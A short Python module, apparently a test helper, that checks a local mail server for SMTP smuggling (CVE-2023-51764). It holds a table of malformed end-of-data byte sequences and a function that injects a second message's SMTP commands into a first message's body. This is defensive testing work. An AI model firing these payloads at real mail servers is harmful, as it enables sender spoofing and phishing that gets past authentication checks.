# SPDX-License-Identifier: EUPL-1.2
"""Tries to smuggle a second message inside the content of a first (CVE-2023-51764 and its relatives)."""
import socket

VERSUCHE = {
    "LF.LF": b"\n.\n", "LF.CRLF": b"\n.\r\n", "CRLF.LF": b"\r\n.\n", "CR.CR": b"\r.\r", "CR.CRLF": b"\r.\r\n", "CRLF.CR": b"\r\n.\r",
    "CR.LF": b"\r.\n", "LF.CR": b"\n.\r", "LFCR.LFCR": b"\n\r.\n\r", "CRCRLF.CRLF": b"\r\r\n.\r\n", "CRLF.CRCRLF": b"\r\n.\r\r\n",
    "CRLF.NULCRLF": b"\r\n.\x00\r\n", "CRLFNUL.CRLF": b"\r\n\x00.\r\n", "LFLF.CRCRLF": b"\n\n.\r\r\n", "CRLF..CRLF": b"\r\n..\r\n",
    "CRLF.blankCRLF": b"\r\n. \r\n", "VT.VT": b"\x0b.\x0b", "NEL.NEL": b"\xc2\x85.\xc2\x85"}


def schmuggle(port, von, an, betreff, ende):
    """Sends one message with `ende` and commands for a second one in its content. Returns all that the server said after the content."""
    with socket.create_connection(("127.0.0.1", port), timeout=20) as dose:
        antworten = dose.makefile("rb")

        def sage(zeile):
            dose.sendall(zeile.encode() + b"\r\n")
            while (antwort := antworten.readline())[3:4] == b"-":
                pass
            return antwort

        antworten.readline()
        for zeile in ("EHLO absender.example", f"MAIL FROM:<{von}>", f"RCPT TO:<{an}>", "DATA"):
            antwort = sage(zeile)
            assert antwort[:1] in b"23", (zeile, antwort)
        dose.sendall(
            f"From: <{von}>\r\nTo: <{an}>\r\nSubject: Schmuggel {betreff}\r\n\r\nvorn".encode() + ende
            + f"MAIL FROM:<{von}>\r\nRCPT TO:<{an}>\r\nDATA\r\nFrom: <{von}>\r\nTo: <{an}>\r\nSubject: geschmuggelt\r\n\r\nhinten\r\n.\r\n".encode())
        # QUIT comes once the first answer is there: sent along it would hide whether the server still waits.
        gesagt = [antworten.readline()]
        try:
            dose.sendall(b"QUIT\r\n")
            while zeile := antworten.readline():
                gesagt.append(zeile)
        except ConnectionError:
            # Whoever is closed while words of theirs still lie unread hears no goodbye.
            pass
        return gesagt
